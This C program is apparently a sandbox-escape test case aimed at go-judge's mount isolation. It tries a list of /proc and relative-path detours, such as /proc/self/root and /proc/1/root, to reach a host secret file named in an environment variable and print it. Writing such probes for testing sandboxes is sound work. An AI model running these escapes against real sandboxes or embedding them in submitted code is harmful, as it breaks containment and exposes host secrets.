// tries: reads a host file indirectly: by other names of the root, of the working directory, of other processes
// seen-in: go-judge up to 1.10.0
// walls: mount
#include <stdio.h>
#include <stdlib.h>

int main(void) {
    const char *detours[] = {"/proc/self/root", "/proc/thread-self/root", "/proc/self/cwd/../../../..", "/proc/1/root",
                             "/proc/self/task/2/root", "../../../../../../../../../../../..", "/proc/self/fd/0/../../..", "/dev/fd/../../..",
                             "/mnt", "//", "/./", NULL};
    char shown[4096];
    snprintf(shown, sizeof shown, "%s/../../../../../../../../../../../..", getenv("SHOWN"));
    detours[11] = shown;
    char path[4096], line[4096];
    for (int i = 0; i < 12; i++) {
        snprintf(path, sizeof path, "%s%s", detours[i], getenv("SECRET"));
        FILE *file = fopen(path, "r");
        if (file && fgets(line, sizeof line, file)) puts(line);
    }
    puts("attempted");
}
